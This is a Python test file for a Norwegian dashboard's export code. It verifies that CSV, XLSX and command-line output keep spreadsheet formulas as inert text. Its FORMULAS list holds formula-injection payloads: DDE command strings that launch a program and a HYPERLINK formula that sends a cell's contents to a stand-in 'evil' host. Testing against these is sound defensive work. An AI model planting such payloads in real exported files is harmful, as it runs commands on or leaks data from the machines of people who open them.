"""Text that a spreadsheet would run as a formula: written so that it stays text, wherever the product writes a table."""

import ast
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from python_calamine import CalamineWorkbook

from dashboard import cli, export, paths, settings
from dashboard.export import Export, ExportColumn
from dashboard.intake import receive
from dashboard.lake import Lake
from dashboard.publish import numbers
from dashboard.sources import klass
from tests.agenda.small_lake import STEDER, commit
from tests.intake.conftest import TODAY, rows
from tests.publish.sample import with_rows
from tests.test_export import VERSJON

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://ond.eksempel.no?"&A1;"Klikk")', "+47 99 99 99 99", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", '=1+1";"=2+2', "\uff1d1+1", "=DDE(\"a\";\"b\";\"c\")", "=1+1\r\n=2+2;=3+3",
)  # fmt: skip
HARMLESS = ("Nes skole", "a=b", " =1+1", "3-4", "'=1+1", "")

CALLS = {"to_csv", "to_excel", "writer", "DictWriter", "Workbook", "write_csv"}
# Whatever writes CSV or XLSX, found in the program's own text. Those that write by another's rule say whose, or why not.
WRITERS = {
    ("export.py", "to_csv"): "frame_to_csv",
    ("export.py", "join"): "to_csv",
    ("export.py", "Workbook"): "to_xlsx",
    ("publish/numbers.py", "join"): "numbers.to_csv",
    ("publish/package.py", "to_csv"): "calls numbers.to_csv",
    ("agenda/publisering_grunnlag.py", "to_csv"): "calls numbers.to_csv, to hash it",
    (
        "sources/klass.py",
        "writer",
    ): "is read back by the way in, which takes text as it stands; nobody downloads it",
    ("demo/write.py", "to_csv"): "holds nothing but our own fiction",
    ("demo/write.py", "Workbook"): "holds nothing but our own fiction",
    ("demo/large.py", "to_csv"): "holds nothing but our own fiction",
    ("demo/large.py", "copy"): "holds nothing but our own fiction",
}


def found_writers() -> Iterator[tuple[str, str]]:
    package = Path(export.__file__).parent
    for file in [*package.rglob("*.py"), *paths.PAGES.glob("*.py")]:
        written = file.read_text("utf-8")
        if "csv" not in written and "xlsx" not in written:
            continue
        name = file.relative_to(package if package in file.parents else paths.ROOT).as_posix()
        yield from ((name, call) for node in ast.walk(ast.parse(written)) if (call := _writes(node)))


def _writes(node: ast.AST) -> str:
    """By what name the node writes a table; empty where it does not."""
    match node:
        case ast.Call(func=ast.Attribute(attr=call)) if call in CALLS:
            return call
        case ast.Call(func=ast.Attribute(value=ast.Constant(value=";" | "\t"), attr="join")):
            return "join"
        case ast.Constant(value=str(text)) if re.search(r"\bcopy \(.*\bto\b.*csv", text.lower()):
            return "copy"
    return ""


def test_every_place_that_writes_a_table_is_known_here() -> None:
    assert set(found_writers()) - WRITERS.keys() == set(), "write it with dashboard/export.py"
    assert WRITERS.keys() - set(found_writers()) == set()


def table(texts: list[str]) -> Export:
    frame = pd.DataFrame({"navn": texts, "merke": texts, "beloep": [-1.5] * len(texts)})
    columns = (
        ExportColumn("navn", "Navn"),
        ExportColumn("merke", "Merke", "tall"),
        ExportColumn("beloep", "Beløp", "kroner"),
    )
    return Export(
        texts[0], texts[0], {texts[0]: texts[0]}, VERSJON, texts[0], False,
        (*columns, ExportColumn("navn", texts[0])), frame,
    )  # fmt: skip


def _published(texts: list[str]) -> str:
    padded = texts * 3
    frame = pd.DataFrame(
        {"omraade": padded, "navn": padded, "avvik": -5.0, "avvik_prosent": -0.5, "antall": -1, "frist": date(2026, 1, 1)}
    )  # fmt: skip
    return numbers.to_csv(replace(with_rows(), frame=frame)).decode("utf-8-sig")


CSV: dict[str, Callable[[list[str]], str]] = {
    "to_csv": lambda texts: export.to_csv(table(texts)).decode("utf-8-sig"),
    "frame_to_csv": lambda texts: export.frame_to_csv(pd.DataFrame({"navn": texts, texts[0]: texts, "beloep": [-1.5] * len(texts)})),
    "numbers.to_csv": _published,
}  # fmt: skip


def cells(csv: str) -> list[str]:
    """As a spreadsheet parts the file: quotes hold, a doubled one is one."""
    found, cell, quoted = [], "", False
    for letter in csv.replace('""', "\x01"):
        if letter == '"':
            quoted = not quoted
        elif letter in ";\r\n" and not quoted:
            found.append(cell)
            cell = ""
        else:
            cell += letter
    return [each.replace("\x01", '"') for each in [*found, cell]]


@pytest.mark.parametrize("writer", CSV)
def test_no_cell_of_a_csv_begins_as_a_formula_but_numbers_are_numbers(writer: str) -> None:
    for formula in FORMULAS:
        told = cells(CSV[writer]([formula]))
        running = [cell for cell in told if cell.startswith(STARTS)]
        assert all(cell.replace(",", "").replace("-", "").isdigit() for cell in running), (formula, running)
        assert running, "the negative amount stays a number"
        assert any(formula.split("\r")[-1] in cell for cell in told), formula
    for harmless in HARMLESS:
        assert harmless in cells(CSV[writer]([harmless, "x"])), harmless


def test_every_csv_writer_is_tried() -> None:
    assert set(CSV) | {"to_xlsx"} == {told for told in WRITERS.values() if " " not in told}


def test_a_workbook_holds_no_formula_no_link_and_nothing_from_elsewhere() -> None:
    for formula in FORMULAS:
        book = export.to_xlsx(table([formula]))
        with zipfile.ZipFile(io.BytesIO(book)) as parts:
            sheet = parts.read("xl/worksheets/sheet1.xml").decode()
            assert not {name for name in parts.namelist() if "external" in name or "embed" in name}
        assert "<f>" not in sheet
        assert "<hyperlink" not in sheet
        shown = CalamineWorkbook.from_filelike(io.BytesIO(book)).get_sheet_by_index(0).to_python()
        assert shown[-1][2] == -1.5


def test_the_command_line_writes_by_the_same_rule(lake: Lake, capsys: pytest.CaptureFixture[str]) -> None:
    places = [
        {**STEDER[0], "enhet": str(number), "enhet_navn": formula} for number, formula in enumerate(FORMULAS)
    ]
    commit(lake, organisasjon=places)
    assert cli.main(["query", "oversikt/enheter", "--format", "csv"]) == cli.OK
    told = cells(capsys.readouterr().out)
    assert [cell for cell in told if cell.startswith(STARTS)] == []
    assert any("HYPERLINK" in cell for cell in told)


def test_what_the_product_reads_back_itself_is_what_it_was(lake: Lake, tmp_path: Path) -> None:
    names = list(FORMULAS[:6])
    groups = [klass.Membership(f"{1000 + n}", name, "KG01", name, 2020, None) for n, name in enumerate(names)]
    path = tmp_path / "kostra-grupper.csv"
    path.write_bytes(klass.as_file(groups))
    with receive.inspect(path, path.name, lake, settings.get(), today=TODAY) as upload:
        read = rows(upload, "select kommune_navn from innlest_kommunegruppe order by kommune")
    assert [name for (name,) in read] == names
    parquet = pd.read_parquet(io.BytesIO(numbers.to_parquet(with_rows(navn=names[:3]))))
    assert list(parquet["navn"]) == names[:3]
